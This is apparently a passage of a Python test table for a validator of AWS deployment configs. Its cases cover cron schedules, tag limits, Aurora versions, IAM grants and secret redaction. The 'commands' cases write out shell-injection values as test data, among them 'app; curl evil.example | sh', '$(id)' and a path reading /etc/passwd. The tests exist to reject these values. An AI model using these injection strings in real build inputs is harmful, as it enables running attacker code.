    Case("network", "ingress address without prefix", "load_balancer.ingress_cidrs.0", ("is not an IPv4 CIDR",), set_("load_balancer.ingress_cidrs", ["203.0.113.5/33"]),),
    Case("network", "DR VPC overlapping the primary", "dr.networking.vpc_cidr", ("overlaps the primary VPC 10.10.0.0/16",), set_("dr", {"region": "eu-central-1", "posture": "backup_restore", "networking": {"vpc_cidr": "10.10.0.0/16"}}),),
    Case("network", "DR VPC public", "dr.networking.vpc_cidr", ("is not a private range",), set_("dr", {"region": "eu-central-1", "posture": "backup_restore", "networking": {"vpc_cidr": "11.0.0.0/16"}}),),
    Case("network", "subnet prefix out of range", "networking.subnet_prefix_length", ("is above the maximum of 28", "use a value from 16 to 28"), set_("networking.subnet_prefix_length", 29),),
    # --- schedules and times ----------------------------------------------------------------
    Case("schedules", "cron with five fields", "service.autoscaling.schedules.0.schedule", ("has 5 fields, but AWS cron has 6", "the year is the 6th field"), schedule("cron(0 19 ? * *)"),),
    Case("schedules", "cron with seven fields", "service.autoscaling.schedules.0.schedule", ("has 7 fields",), schedule("cron(0 0 19 ? * * *)"),),
    Case("schedules", "unix cron without cron()", "service.autoscaling.schedules.0.schedule", ("is not cron(...), rate(...) or at(...)",), schedule("0 19 * * *"),),
    Case("schedules", "both day fields *", "service.autoscaling.schedules.0.schedule", ("must have '?' in exactly one of day-of-month and day-of-week", "cron(0 19 ? * * *) or cron(0 19 * * ? *)"), schedule("cron(0 19 * * * *)"),),
    Case("schedules", "both day fields ?", "service.autoscaling.schedules.0.schedule", ("must have '?' in exactly one",), schedule("cron(0 19 ? * ? *)"),),
    Case("schedules", "day of month and weekday both set", "service.autoscaling.schedules.0.schedule", ("must have '?' in exactly one",), schedule("cron(0 19 1 * MON *)"),),
    Case("schedules", "minute 60", "service.autoscaling.schedules.0.schedule", ("minutes field '60' is outside 0-59",), schedule("cron(60 19 ? * * *)"),),
    Case("schedules", "hour 24", "service.autoscaling.schedules.0.schedule", ("hours field '24' is outside 0-23",), schedule("cron(0 24 ? * * *)"),),
    Case("schedules", "day 32", "service.autoscaling.schedules.0.schedule", ("day-of-month field '32' is outside 1-31",), schedule("cron(0 19 32 * ? *)"),),
    Case("schedules", "month 13", "service.autoscaling.schedules.0.schedule", ("month field '13' is outside 1-12 or JAN-DEC",), schedule("cron(0 19 ? 13 * *)"),),
    Case("schedules", "month spelt out", "service.autoscaling.schedules.0.schedule", ("month field 'JANUARY' is outside",), schedule("cron(0 19 ? JANUARY * *)"),),
    Case("schedules", "weekday 8", "service.autoscaling.schedules.0.schedule", ("day-of-week field '8' is outside 1-7 or SUN-SAT",), schedule("cron(0 19 ? * 8 *)"),),
    Case("schedules", "weekday range with a bad name", "service.autoscaling.schedules.0.schedule", ("day-of-week field 'MON-FRY' is outside",), schedule("cron(0 19 ? * MON-FRY *)"),),
    Case("schedules", "year 1969", "service.autoscaling.schedules.0.schedule", ("year field '1969' is outside 1970-2199",), schedule("cron(0 19 ? * * 1969)"),),
    Case("schedules", "year 2200", "service.autoscaling.schedules.0.schedule", ("year field '2200' is outside",), schedule("cron(0 19 ? * * 2200)"),),
    Case("schedules", "step of zero", "service.autoscaling.schedules.0.schedule", ("needs a positive step after '/'",), schedule("cron(0/0 19 ? * * *)"),),
    Case("schedules", "percent sign", "service.autoscaling.schedules.0.schedule", ("minutes field uses '%'",), schedule("cron(%5 19 ? * * *)"),),
    Case("schedules", "L in the minutes", "service.autoscaling.schedules.0.schedule", ("minutes field 'L' is outside 0-59",), schedule("cron(L 19 ? * * *)"),),
    Case("schedules", "W in the weekday", "service.autoscaling.schedules.0.schedule", ("day-of-week field '2W' is outside 1-7 or SUN-SAT",), schedule("cron(0 19 ? * 2W *)"),),
    Case("schedules", "# in the day of month", "service.autoscaling.schedules.0.schedule", ("day-of-month field uses '#'",), schedule("cron(0 19 1#2 * ? *)"),),
    Case("schedules", "sixth Monday", "service.autoscaling.schedules.0.schedule", ("must be weekday#n with n from 1 to 5",), schedule("cron(0 19 ? * MON#6 *)"),),
    Case("schedules", "# with a list", "service.autoscaling.schedules.0.schedule", ("combines '#' with ','",), schedule("cron(0 19 ? * 2#1,6#3 *)"),),
    Case("schedules", "rate of zero", "service.autoscaling.schedules.0.schedule", ("must be a positive whole number and a unit",), schedule("rate(0 minutes)"),),
    Case("schedules", "rate of one, plural", "service.autoscaling.schedules.0.schedule", ("says 1 minutes", "write rate(1 minute)"), schedule("rate(1 minutes)"),),
    Case("schedules", "rate of five, singular", "service.autoscaling.schedules.0.schedule", ("says 5 hour", "write rate(5 hours)"), schedule("rate(5 hour)"),),
    Case("schedules", "rate in weeks", "service.autoscaling.schedules.0.schedule", ("has the unit 'weeks'",), schedule("rate(2 weeks)"),),
    Case("schedules", "rate without a number", "service.autoscaling.schedules.0.schedule", ("must be a positive whole number",), schedule("rate(minutes)"),),
    Case("schedules", "rate with a fraction", "service.autoscaling.schedules.0.schedule", ("must be a positive whole number",), schedule("rate(1.5 hours)"),),
    Case("schedules", "at with month 13", "service.autoscaling.schedules.0.schedule", ("is not a date and time yyyy-mm-ddThh:mm:ss", "at(2030-01-31T18:00:00)"), schedule("at(2030-13-01T00:00:00)"),),
    Case("schedules", "at without seconds", "service.autoscaling.schedules.0.schedule", ("is not a date and time",), schedule("at(2030-01-01T00:00)"),),
    Case("schedules", "Cron capitalised", "service.autoscaling.schedules.0.schedule", ("is not cron(...), rate(...) or at(...)",), schedule("Cron(0 19 ? * * *)"),),
    Case("schedules", "space before the expression", "service.autoscaling.schedules.0.schedule", ("is not cron(...)",), schedule(" cron(0 19 ? * * *)"),),
    Case("schedules", "misspelt time zone", "service.autoscaling.schedules.0.timezone", ("is not an IANA time zone", "use 'Europe/Amsterdam'"), schedule("cron(0 19 ? * * *)", timezone="Europe/Amsterdm"),),
    Case("schedules", "abbreviated time zone", "service.autoscaling.schedules.0.timezone", ("is not an IANA time zone",), schedule("cron(0 19 ? * * *)", timezone="CEST"),),
    Case("schedules", "time zone of another planet", "service.autoscaling.schedules.0.timezone", ("is not an IANA time zone",), schedule("cron(0 19 ? * * *)", timezone="Mars/Olympus_Mons"),),
    Case("schedules", "offset as time zone", "service.autoscaling.schedules.0.timezone", ("is not an IANA time zone",), schedule("cron(0 19 ? * * *)", timezone="+02:00"),),
    Case("schedules", "backup window of ten minutes", "database.preferred_backup_window", ("is 10 minutes long, but RDS needs at least 30", "end it at 05:30 or later"), set_("database.preferred_backup_window", "05:00-05:10"),),
    Case("schedules", "backup window without leading zeros", "database.preferred_backup_window", ("is not a window hh24:mi-hh24:mi", "'03:00-04:00'"), set_("database.preferred_backup_window", "3:00-4:00"),),
    Case("schedules", "backup window at 25:00", "database.preferred_backup_window", ("is not a window hh24:mi-hh24:mi",), set_("database.preferred_backup_window", "25:00-26:00"),),
    Case("schedules", "backup window with days", "database.preferred_backup_window", ("is not a window hh24:mi-hh24:mi",), set_("database.preferred_backup_window", "sun:03:00-sun:04:00"),),
    Case("schedules", "maintenance day capitalised", "database.preferred_maintenance_window", ("names the day 'Sun'", "use 'sun'"), set_("database.preferred_maintenance_window", "Sun:04:30-Sun:05:30"),),
    Case("schedules", "maintenance day spelt out", "database.preferred_maintenance_window", ("is not a window ddd:hh24:mi-ddd:hh24:mi",), set_("database.preferred_maintenance_window", "sunday:04:30-sunday:05:30"),),
    Case("schedules", "maintenance day unknown", "database.preferred_maintenance_window", ("names the day 'sum'", "use 'sun'"), set_("database.preferred_maintenance_window", "sum:04:30-sun:05:30"),),
    Case("schedules", "maintenance window of five minutes", "database.preferred_maintenance_window", ("is 5 minutes long, but RDS needs at least 30", "end it at sun:05:00 or later"), set_("database.preferred_maintenance_window", "sun:04:30-sun:04:35"),),
    Case("schedules", "maintenance time 24:00", "database.preferred_maintenance_window", ("has the time '24:00'",), set_("database.preferred_maintenance_window", "sun:24:00-mon:01:00"),),
    Case("schedules", "backup inside the maintenance window", "database.preferred_backup_window", ("overlaps the maintenance window (sun:04:30-sun:05:30)",), set_("database.preferred_backup_window", "04:00-05:00"),),
    Case("schedules", "maintenance over the default backups", "database.preferred_maintenance_window", ("overlaps the backup window (03:00-04:00)",), set_("database.preferred_maintenance_window", "wed:03:30-wed:04:30"),),
    Case("schedules", "backup window over midnight into maintenance", "database.preferred_backup_window", ("overlaps the maintenance window",), chain(("database.preferred_backup_window", "23:30-00:45"), ("database.preferred_maintenance_window", "mon:00:15-mon:01:00"),),),
    # --- limits AWS enforces ----------------------------------------------------------------
    Case("limits", "46 tags", "tags", ("has 46 tags: with the stack's own", "keep at most 45 tags"), set_("tags", {f"key{i}": "v" for i in range(46)}),),
    Case("limits", "aws: tag prefix", "tags.aws:owner", ("uses the aws: prefix, which AWS reserves",), set_("tags", {"aws:owner": "me"}),),
    Case("limits", "AWS: tag prefix in capitals", "tags.AWS:cost", ("uses the aws: prefix",), set_("tags", {"AWS:cost": "x"}),),
    Case("limits", "tag key with #", "tags.team#1", ("tag key has characters AWS refuses ('#' is not allowed)", "use letters, digits, spaces and + - = . _ : / @"), set_("tags", {"team#1": "x"}),),
    Case("limits", "tag value with !", "tags.owner", ("tag value has characters AWS refuses ('!' is not allowed)",), set_("tags", {"owner": "me!"}),),
    Case("limits", "tag value with an emoji", "tags.owner", ("tag value has characters AWS refuses",), set_("tags", {"owner": "team 🚀"}),),
    Case("limits", "tag key of 129 characters", "tags." + "k" * 129, ("tag key is 129 characters long, over AWS's 128", "shorten the key"), set_("tags", {"k" * 129: "v"}),),
    Case("limits", "tag value of 257 characters", "tags.owner", ("tag value is 257 characters long, over AWS's 256",), set_("tags", {"owner": "v" * 257}),),
    Case("limits", "tag value a number", "tags.cost-center", ("is not text (YAML reads it as a number)", "quote it: '1234'"), set_("tags", {"cost-center": 1234}),),
    Case("limits", "tag value yes", "tags.backup", ("is not text (YAML reads yes, no, on, off, true and false as true or false)", "quote it: 'true'"), set_("tags", {"backup": True}),),
    Case("limits", "tasks' outbound rules over 60", "service.https_egress_cidrs", ("needs 61 outbound rules on the tasks' security group, over AWS's 60", "list at most 57 CIDRs"), set_("service.https_egress_cidrs", [f"198.51.{i}.0/24" for i in range(58)]),),
    Case("limits", "security group rules over 60", "load_balancer.ingress_cidrs", ("needs 61 inbound rules on the load balancer's security group (30 CIDRs x 2 production ports", "list at most 29 CIDRs here",), set_("load_balancer.ingress_cidrs", [f"198.51.{i}.0/24" for i in range(30)]),),
    Case("limits", "test listener rules over 60", "load_balancer.test_ingress_cidrs", ("over AWS's 60", "list at most 57 CIDRs here"), set_("load_balancer.test_ingress_cidrs", [f"198.51.{i}.0/24" for i in range(60)]), base="prod",),
    Case("limits", "ECS bake time over a day", "deployment.termination_wait_minutes", ("is ECS's bake time with controller ecs, which is at most 1440 minutes",), set_("deployment.termination_wait_minutes", 1441), base="sandbox",),
    Case("limits", "ECS linear step of 2 percent", "deployment.traffic.percent", ("is below the 3 percent ECS's linear deployments shift at least per step",), set_("deployment.traffic", {"type": "linear", "percent": 2, "every_minutes": 1}), base="sandbox",),
    Case("limits", "ECS linear step bake over a day", "deployment.traffic.every_minutes", ("is over the 1440 minutes ECS waits at most between linear steps",), set_("deployment.traffic", {"type": "linear", "percent": 10, "every_minutes": 1500}), base="sandbox",),
    Case("limits", "ECS-native release longer than the release step waits", "deployment.termination_wait_minutes", ("makes an ECS-native release last up to 471 minutes", "longer than the 470 the pipeline's release step can wait"), chain(("deployment.traffic", {"type": "all_at_once"}), ("deployment.termination_wait_minutes", 441)), base="sandbox",),
    Case("limits", "ECS linear shift longer than the release step waits", "deployment.termination_wait_minutes", ("makes an ECS-native release last up to 525 minutes",), chain(("deployment.traffic", {"type": "linear", "percent": 3, "every_minutes": 15}), ("deployment.termination_wait_minutes", 0)), base="sandbox",),
    Case("limits", "ECS canary bake over a day", "deployment.traffic.minutes", ("is over the 1440 minutes ECS bakes a canary at most",), set_("deployment.traffic", {"type": "canary", "percent": 10, "minutes": 2000}), base="sandbox",),
    Case("limits", "ECS approval wait", "deployment.approval_timeout_minutes", ("only CodeDeploy can do",), set_("deployment.approval_timeout_minutes", 30), base="sandbox",),
    Case("limits", "CodeDeploy termination wait over two days", "deployment.termination_wait_minutes", ("is above the maximum of 2880", "use a value from 0 to 2880"), set_("deployment.termination_wait_minutes", 2881),),
    Case("limits", "CodeDeploy approval wait over two days", "deployment.approval_timeout_minutes", ("is above the maximum of 2880",), set_("deployment.approval_timeout_minutes", 3000),),
    Case("limits", "canary wait over two days", "deployment.traffic.minutes", ("is above the maximum of 2880",), set_("deployment.traffic", {"type": "canary", "percent": 10, "minutes": 2881}),),
    Case("limits", "ACU not a half step", "database.serverless_v2.min_acu", ("is not a multiple of 0.5 ACU", "use 0.5 or 1"), set_("database.serverless_v2", {"min_acu": 0.7, "max_acu": 2}),),
    Case("limits", "maximum ACU not a half step", "database.serverless_v2.max_acu", ("is not a multiple of 0.5 ACU", "use 2 or 2.5"), set_("database.serverless_v2", {"min_acu": 0.5, "max_acu": 2.25}),),
    Case("limits", "ACU above 256", "database.serverless_v2.max_acu", ("is above the maximum of 256",), set_("database.serverless_v2", {"min_acu": 0.5, "max_acu": 300}),),
    Case("limits", "over 128 ACU on an older engine", "database.serverless_v2.max_acu", ("is over 128, which Aurora PostgreSQL 15.4 cannot reach", "engine_version to 15.5 or later"), chain(("database.engine_version", "15.4"), ("database.serverless_v2", {"min_acu": 0.5, "max_acu": 192})),),
    Case("limits", "auto-pause on an engine that cannot", "database.serverless_v2.min_acu", ("0 (auto-pause) needs a newer engine than 14.11", "set database.engine_version to 14.12 or later"), set_("database.engine_version", "14.11"),),
    Case("limits", "minimum above maximum ACU", "database.serverless_v2.max_acu", ("is below min_acu (4)", "set max_acu to 4 or more"), set_("database.serverless_v2", {"min_acu": 4, "max_acu": 2}),),
    Case("limits", "ARM64 on Fargate Spot", "service.capacity.spot_weight", ("puts ARM64 tasks on Fargate Spot, which runs X86_64 tasks only", "set spot_weight: 0"), chain(("service.cpu_architecture", "ARM64"), ("service.capacity", {"spot_weight": 2})),),
    Case("limits", "no capacity provider with weight", "service.capacity.fargate_weight", ("leaves every capacity provider at weight 0",), set_("service.capacity", {"fargate_weight": 0, "spot_weight": 0}),),
    Case("limits", "ARM64 with Fargate weight 0", "service.capacity.fargate_weight", ("leaves every capacity provider at weight 0",), chain(("service.cpu_architecture", "ARM64"), ("service.capacity", {"fargate_weight": 0})),),
    Case("limits", "Fargate memory not in steps", "service.memory", ("is not valid with cpu 256 on Fargate", "use 1024"), set_("service.memory", 1000),),
    Case("limits", "Fargate cpu size unknown", "service.cpu", ("is not a Fargate CPU size", "use 1024"), set_("service.cpu", 1000),),
    Case("limits", "more than 15 database instances", "database.instance_count", ("is above the maximum of 15",), set_("database.instance_count", 16),),
    Case("limits", "backup retention over 35 days", "database.backup_retention_days", ("is above the maximum of 35", "from 1 to 35"), set_("database.backup_retention_days", 36),),
    Case("limits", "log retention CloudWatch lacks", "service.log_retention_days", ("CloudWatch Logs does not accept this retention", "use 90"), set_("service.log_retention_days", 100),),
    Case("limits", "stop timeout over Fargate's 120", "service.stop_timeout_seconds", ("is above the maximum of 120",), set_("service.stop_timeout_seconds", 121),),
    Case("limits", "desired count yes", "service.desired_count", ("is not a whole number (got true)", "write a whole number from 0 to 1000"), set_("service.desired_count", True),),
    Case("limits", "desired count as a fraction", "service.desired_count", ("is not a whole number", "use 2 or 3"), set_("service.desired_count", 2.5),),
    Case("limits", "az_count as a word", "networking.az_count", ("is not a whole number", "from 2 to 6"), set_("networking.az_count", "three"),),
    Case("limits", "monitoring interval AWS lacks", "database.monitoring_interval_seconds", ("is not one of the allowed values", "use 15 (allowed: 0, 1, 5, 10, 15, 30, 60)"), set_("database.monitoring_interval_seconds", 20)),
    Case("limits", "NAT mode misspelt", "networking.nat_mode", ("is not one of the allowed values", "use 'per_az'"), set_("networking.nat_mode", "per-az")),
    Case("limits", "deletion protection 1", "load_balancer.deletion_protection", ("is not true or false (got 1)", "write true or false"), set_("load_balancer.deletion_protection", 1)),
    Case("limits", "monitoring interval true", "database.monitoring_interval_seconds", ("is not one of the allowed values (got true)",), set_("database.monitoring_interval_seconds", True)),
    Case("limits", "deletion protection maybe", "database.deletion_protection", ("is not true or false", "write true or false"), set_("database.deletion_protection", "maybe"),),
    Case("limits", "ACU true", "database.serverless_v2.min_acu", ("is not a number (got true)",), set_("database.serverless_v2", {"min_acu": True, "max_acu": 2}),),
    # --- engine versions and instance classes -----------------------------------------------
    Case("engines", "minor version AWS skipped", "database.engine_version", ("is not an Aurora PostgreSQL version AWS offers", "use '16.4'"), set_("database.engine_version", "16.5"),),
    Case("engines", "minor version not yet released", "database.engine_version", ("use '16.9'",), set_("database.engine_version", "16.12"),),
    Case("engines", "major past standard support", "database.engine_version", ("is not an Aurora PostgreSQL version",), set_("database.engine_version", "11.9"),),
    Case("engines", "major AWS does not offer", "database.engine_version", ("is not an Aurora PostgreSQL version",), set_("database.engine_version", "12"),),
    Case("engines", "pinned minor under automatic minor upgrades", "database.engine_version", ("pins a minor version while AWS applies minor upgrades", "write the major version only ('16')"), set_("database.engine_version", "16.4"),),
    Case("engines", "version with a patch", "database.engine_version", ("use '16.4'",), set_("database.engine_version", "16.4.1"),),
    Case("engines", "version as a number", "database.engine_version", ("is not text (YAML reads it as a number)",), set_("database.engine_version", 16.4),),
    Case("engines", "MySQL version", "database.engine_version", ("is not an Aurora PostgreSQL version",), set_("database.engine_version", "8.0.mysql_aurora.3.05.2"),),
    Case("engines", "misspelt instance class", "database.instance_class", ("is not an Aurora PostgreSQL instance class", "use 'db.r6g.large'"), chain(("database.serverless_v2", DROP), ("database.instance_class", "db.r6g.larg")),),
    Case("engines", "class without db.", "database.instance_class", ("use 'db.r6g.large'",), chain(("database.serverless_v2", DROP), ("database.instance_class", "r6g.large")),),
    Case("engines", "general-purpose class", "database.instance_class", ("is not an Aurora PostgreSQL instance class",), chain(("database.serverless_v2", DROP), ("database.instance_class", "db.m5.large")),),
    Case("engines", "burstable size Aurora lacks", "database.instance_class", ("use 'db.t4g.medium'",), chain(("database.serverless_v2", DROP), ("database.instance_class", "db.t4g.micro")),),
    Case("engines", "size the family lacks", "database.instance_class", ("is not an Aurora PostgreSQL instance class",), chain(("database.serverless_v2", DROP), ("database.instance_class", "db.r7g.24xlarge")),),
    Case("engines", "EC2 instance type", "database.instance_class", ("is not an Aurora PostgreSQL instance class",), chain(("database.serverless_v2", DROP), ("database.instance_class", "r6g.xlarge.search")),),
    Case("engines", "serverless class without capacity", "database.serverless_v2", ("is required when instance_class is db.serverless",), chain(("database.serverless_v2", DROP), ("database.instance_class", "db.serverless")),),
    Case("engines", "instance class with serverless", "database.instance_class", ("conflicts with serverless_v2",), set_("database.instance_class", "db.r6g.large"),),
    # --- what the AWS API models declare ----------------------------------------------------
    Case("api models", "ECR repository from a trailing hyphen", "project", ("ECR repository name 'shop-/dev/app', which has a form AWS does not accept", "separated by '.', '_', '-' or '/'",), set_("project", "shop-"),),
    Case("api models", "ECR repository from a double hyphen", "project", ("ECR repository name 'a--b/dev/app'",), set_("project", "a--b"),),
    Case("api models", "tag key with a control character", "tags.'a\\tb'", ("tag key has characters AWS refuses",), set_("tags", {"a\tb": "x"}),),
    Case("api models", "tag value with a pipe", "tags.owner", ("tag value has characters AWS refuses ('|' is not allowed)",), set_("tags", {"owner": "a|b"}),),
    Case("api models", "tag value with quotes", "tags.owner", ("tag value has characters AWS refuses",), set_("tags", {"owner": '"me"'}),),
    Case("api models", "tag key with brackets", "tags.team[1]", ("tag key has characters AWS refuses ('[]' is not allowed)",), set_("tags", {"team[1]": "x"}),),
    Case("api models", "tag key empty", "tags.''", ("tag key is 0 characters long, under the 1 AWS requires",), set_("tags", {"": "x"}),),
    # --- values that end up in commands -----------------------------------------------------
    Case("commands", "app path starting with a hyphen", "pipeline.app_path", ("starts with '-', which docker build would read as an option", "write it as ./-app"), set_("pipeline.app_path", "-app"),),
    Case("commands", "app path as docker option", "pipeline.app_path", ("which the build's shell would interpret", "starts with '-'"), set_("pipeline.app_path", "--file=/etc/passwd"),),
    Case("commands", "app path with a semicolon", "pipeline.app_path", ("contains ' ' ';' '|', which the build's shell would interpret",), set_("pipeline.app_path", "app; curl evil.example | sh"),),
    Case("commands", "app path with command substitution", "pipeline.app_path", ("contains '$' '(' ')'",), set_("pipeline.app_path", "$(id)"),),
    Case("commands", "app path with backticks", "pipeline.app_path", ("contains '`'",), set_("pipeline.app_path", "`id`")),
    Case("commands", "app path with a pipe", "pipeline.app_path", ("contains '|'",), set_("pipeline.app_path", "app|tee")),
    Case("commands", "app path with a glob", "pipeline.app_path", ("contains '*'",), set_("pipeline.app_path", "apps/*")),
    Case("commands", "app path with a home", "pipeline.app_path", ("contains '~'",), set_("pipeline.app_path", "~/app")),
    Case("commands", "app path with a newline", "pipeline.app_path", ("which the build's shell would interpret",), set_("pipeline.app_path", "app\nrm"),),
    Case("commands", "app path climbing out", "pipeline.app_path", ("climbs out of the repository with '..'",), set_("pipeline.app_path", "../secrets"),),
    Case("commands", "app path absolute", "pipeline.app_path", ("is an absolute path", "'srv/app'"), set_("pipeline.app_path", "/srv/app"),),
    Case("commands", "app path empty", "pipeline.app_path", ("is empty",), set_("pipeline.app_path", "")),
    Case("commands", "branch starting with a hyphen", "pipeline.branch", ("starts with '-', which Git refuses",), set_("pipeline.branch", "-main"),),
    Case("commands", "branch with ..", "pipeline.branch", ("contains '..', which Git refuses",), set_("pipeline.branch", "release..1"),),
    Case("commands", "branch with a space", "pipeline.branch", ("contains a character Git refuses",), set_("pipeline.branch", "my branch"),),
    Case("commands", "branch with a colon", "pipeline.branch", ("contains a character Git refuses",), set_("pipeline.branch", "a:b"),),
    Case("commands", "branch ending .lock", "pipeline.branch", ("ending in '.lock'",), set_("pipeline.branch", "main.lock"),),
    Case("commands", "branch ending with a slash", "pipeline.branch", ("has an empty part between '/'",), set_("pipeline.branch", "release/"),),
    Case("commands", "branch with @{", "pipeline.branch", ("contains '@{'",), set_("pipeline.branch", "main@{1}")),
    Case("commands", "branch ending with a dot", "pipeline.branch", ("ends with '.'",), set_("pipeline.branch", "main.")),
    Case("commands", "branch @", "pipeline.branch", ("is '@', which Git reserves",), set_("pipeline.branch", "@")),
    Case("commands", "repository as a URL", "pipeline.repository", ("must be the repository's full id", "use 'group/app'"), set_("pipeline.repository", "https://gitlab.com/group/app.git "),),
    # --- secrets are never printed back -----------------------------------------------------
    Case("secrets", "password in the environment", "service.environment.DB_PASSWORD", ("looks like a secret", "store it in Secrets Manager"), set_("service.environment", {"DB_PASSWORD": "hunter2-hunter2"}), hide=("hunter2",),),
    Case("secrets", "access key id as a value", "service.environment.UPSTREAM", ("looks like a secret",), set_("service.environment", {"UPSTREAM": "AKIAIOSFODNN7EXAMPLE"}), hide=("AKIAIOSFODNN7EXAMPLE",),),
    Case("secrets", "URL with a password", "service.environment.DATABASE_URL", ("looks like a secret",), set_("service.environment", {"DATABASE_URL": "postgres://app:s3cr3t-pass@db/app"}), hide=("s3cr3t-pass",),),
    Case("secrets", "private key in a tag", "tags.signing", ("looks like a secret", "a value that looks secret, not shown", "never put a secret in a tag"), set_("tags", {"signing": "-----BEGIN RSA PRIVATE KEY-----MIIE"}), hide=("MIIE",),),
    Case("secrets", "token under an unknown key", "pipeline.token", ("is not a known key", "a value that looks secret, not shown"), set_("pipeline.token", "glpat-abcdefghijklmnopqrstuvwx"), hide=("glpat-abcdefghijklmnopqrstuvwx",),),
    Case("secrets", "random token as a branch", "pipeline.branch", ("a value that looks secret, not shown",), set_("pipeline.branch", "x..Zq8vN3pL5tR7wY1bC4dF6gH9jK2mQ0sAbCdEfGh"), hide=("Zq8vN3pL5tR7wY1bC4dF6gH9jK2mQ0sAbCdEfGh",),),
    # --- grants (issue 15): scoped to what they name, of this partition, region and account ----
    Case("grants", "SQS queue of another account", "service.grants.0.queue", ("belongs to account 222222222222, not the stack's 111111111111", "or set cross_account: true once that account's queue policy grants"), set_("service.grants", [{"type": "sqs", "queue": "arn:aws:sqs:eu-west-1:222222222222:orders", "access": "send"}]),),
    Case("grants", "SQS queue of another region", "service.grants.0.queue", ("is in region us-east-1, but it is used in eu-west-1", "use one created in eu-west-1"), set_("service.grants", [{"type": "sqs", "queue": "arn:aws:sqs:us-east-1:111111111111:orders", "access": "receive"}]),),
    Case("grants", "SQS queues by wildcard", "service.grants.0.queue", ("contains '*', which IAM reads as a wildcard", "name one SQS queue exactly"), set_("service.grants", [{"type": "sqs", "queue": "arn:aws:sqs:eu-west-1:111111111111:*", "access": "send"}]),),
    Case("grants", "SNS topic of another partition", "service.grants.0.topic", ("is in partition aws-cn, but the stack's region is in aws",), set_("service.grants", [{"type": "sns", "topic": "arn:aws-cn:sns:eu-west-1:111111111111:events"}]),),
    Case("grants", "SNS topic ARN of a subscription", "service.grants.0.topic", ("is not an SNS topic ARN",), set_("service.grants", [{"type": "sns", "topic": "arn:aws:sns:eu-west-1:111111111111:events:0f0e0d0c-0000-4000-8000-000000000001"}]),),
    Case("grants", "KMS key by alias", "service.grants.0.key", ("is an alias ARN", "use the key's ARN (aws kms describe-key --key-id alias/app shows it)"), set_("service.grants", [{"type": "kms", "key": "arn:aws:kms:eu-west-1:111111111111:alias/app", "use": "decrypt"}]),),
    Case("grants", "KMS key of another account", "service.grants.0.key", ("belongs to account 222222222222", "key policy grants"), set_("service.grants", [{"type": "kms", "key": "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-4000-8000-000000000001", "use": "encrypt"}]),),
    Case("grants", "KMS use misspelt", "service.grants.0.use", ("is not one of the allowed values", "use 'decrypt'"), set_("service.grants", [{"type": "kms", "key": "arn:aws:kms:eu-west-1:111111111111:key/00000000-0000-4000-8000-000000000001", "use": "decrpyt"}]),),
    Case("grants", "S3 bucket by wildcard", "service.grants.0.bucket", ("which IAM reads as a wildcard",), set_("service.grants", [{"type": "s3", "bucket": "shop-*", "access": "read"}]),),
    Case("grants", "S3 prefix with a policy variable", "service.grants.0.prefix", ("contains '*', '?' or '$'", "write the prefix without it"), set_("service.grants", [{"type": "s3", "bucket": "shop-data", "prefix": "${aws:username}/", "access": "read"}]),),
    Case("grants", "S3 prefix with a leading slash", "service.grants.0.prefix", ("starts with /", "write it without the leading slash: 'uploads/'"), set_("service.grants", [{"type": "s3", "bucket": "shop-data", "prefix": "/uploads/", "access": "write"}]),),
    Case("grants", "S3 object ARN as a bucket", "service.grants.0.bucket", ("is not an S3 bucket ARN", "keys go in prefix"), set_("service.grants", [{"type": "s3", "bucket": "arn:aws:s3:::shop-data/uploads", "access": "read"}]),),
    Case("grants", "S3 bucket name with capitals", "service.grants.0.bucket", ("is not an S3 bucket name AWS accepts",), set_("service.grants", [{"type": "s3", "bucket": "Shop-Data", "access": "read"}]),),
    Case("grants", "S3 without access", "service.grants.0.access", ("is required", "one of read, write, read_write"), set_("service.grants", [{"type": "s3", "bucket": "shop-data"}]),),
    Case("grants", "S3 bucket owner not an account", "service.grants.0.account", ("must be the 12 digits of an AWS account id",), set_("service.grants", [{"type": "s3", "bucket": "shop-data", "access": "read", "account": "1234"}]),),
    Case("grants", "SSM root path", "service.grants.0.path", ("is the root of Parameter Store",), set_("service.grants", [{"type": "ssm", "path": "/"}]),),
    Case("grants", "SSM path with a wildcard", "service.grants.0.path", ("which IAM reads as a wildcard",), set_("service.grants", [{"type": "ssm", "path": "/shop/*/db"}]),),
    Case("grants", "SSM path of AWS's public parameters", "service.grants.0.path", ("AWS reserves names starting aws or ssm",), set_("service.grants", [{"type": "ssm", "path": "/aws/service/ami-amazon-linux-latest"}]),),
    Case("grants", "SSM path too deep", "service.grants.0.path", ("has 16 levels; Parameter Store names have at most 15",), set_("service.grants", [{"type": "ssm", "path": "/a" * 16}]),),
    Case("grants", "a service calling itself", "service.grants.0.service", ("is this service itself",), set_("service.grants", [{"type": "service", "service": "app"}]),),
    Case("grants", "a service that does not exist", "service.grants.0.service", ("is not a service of this environment", "remove the grant"), set_("service.grants", [{"type": "service", "service": "worker"}]),),
    Case("grants", "an unknown kind", "service.grants.0", ("has type 'dynamodb', which is not a kind this key knows", "set type to one of: s3, sqs, sns, ssm, kms, service"), set_("service.grants", [{"type": "dynamodb", "table": "orders"}]),),
    Case("grants", "a kind's key on another kind", "service.grants.0.queue", ("is not a known key", "remove it or use one of: type, topic, cross_account"), set_("service.grants", [{"type": "sns", "topic": "arn:aws:sns:eu-west-1:111111111111:events", "queue": "x"}]),),
    Case("grants", "the same grant twice", "service.grants.1", ("is the same grant as index 0", "remove it"), set_("service.grants", [{"type": "ssm", "path": "/shop/api/"}] * 2),),
    Case("grants", "more grants than a role can hold", "service.grants", ("has more than 20 entries",), set_("service.grants", [{"type": "ssm", "path": f"/shop/p{i}/"} for i in range(21)]),),
    # --- production safety (existing rules, checked in the same format) ---------------------
    # Issue 12: the database connection and TLS are the stack's, the runtime's variables AWS's.
    Case("security", "TLS turned off through the environment", "service.environment.DB_SSLMODE", ("is set by the stack or by AWS", "names starting DB_, AWS_, ECS_ are reserved"), set_("service.environment", {"DB_SSLMODE": "disable"}),),
    Case("security", "the database user chosen through the environment", "service.environment.DB_USER", ("is set by the stack or by AWS",), set_("service.environment", {"DB_USER": "app_admin"}),),
    Case("security", "an AWS runtime variable", "service.environment.AWS_REGION", ("is set by the stack or by AWS",), set_("service.environment", {"AWS_REGION": "us-east-1"}),),
    Case("security", "a secret named like a reserved variable", "service.secrets.DB_PASSWORD", ("is set by the stack or by AWS",), set_("service.secrets", {"DB_PASSWORD": "arn:aws:secretsmanager:eu-west-1:111111111111:secret:db-AbCdEf"}),),
